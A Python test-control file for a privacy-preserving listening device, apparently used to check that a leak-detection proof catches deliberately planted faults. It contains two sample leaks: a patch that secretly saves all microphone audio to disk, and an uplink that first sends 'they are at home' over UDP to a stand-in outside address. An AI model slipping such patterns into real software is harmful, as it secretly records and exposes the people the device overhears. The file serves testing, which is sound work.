"""The speaker's processes with a leak planted in them, for controls: `python planted.py LEAK --config FILE`

Each leak is what a careless or bad change could bring in. A proof that does not find it has shown nothing.
"""

from __future__ import annotations

import socket
import sys
from collections.abc import Callable
from pathlib import Path

from keepmum import config, process
from keepmum.hardware.microphone_wav import WavMicrophone
from keepmum.listener.__main__ import main as listener
from keepmum.settings import Settings
from keepmum.uplink.__main__ import main as uplink

ELSEWHERE = ("192.0.2.77", 443)
"""An address that nobody has (RFC 5737)."""


def keeps_what_it_hears() -> int:
    """Every block from the microphone is also written beside the ledger."""
    read = WavMicrophone.read
    kept = config.load(Path(sys.argv[-1])).folders.state / "heard.raw"

    def read_and_keep(self: WavMicrophone) -> bytes:
        block = read(self)
        with kept.open("ab") as file:
            file.write(block)
        return block

    WavMicrophone.read = read_and_keep  # type: ignore[method-assign]
    return process.run("listener", listener)


def calls_elsewhere() -> int:
    """The uplink greets somebody else before it does its work."""

    def greet_first(settings: Settings) -> int:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
            way.sendto(b"they are at home", ELSEWHERE)
        return uplink(settings)

    return process.run("uplink", greet_first)


LEAKS: dict[str, Callable[[], int]] = {
    "keeps_what_it_hears": keeps_what_it_hears,
    "calls_elsewhere": calls_elsewhere,
}

if __name__ == "__main__":
    sys.exit(LEAKS[sys.argv.pop(1)]())
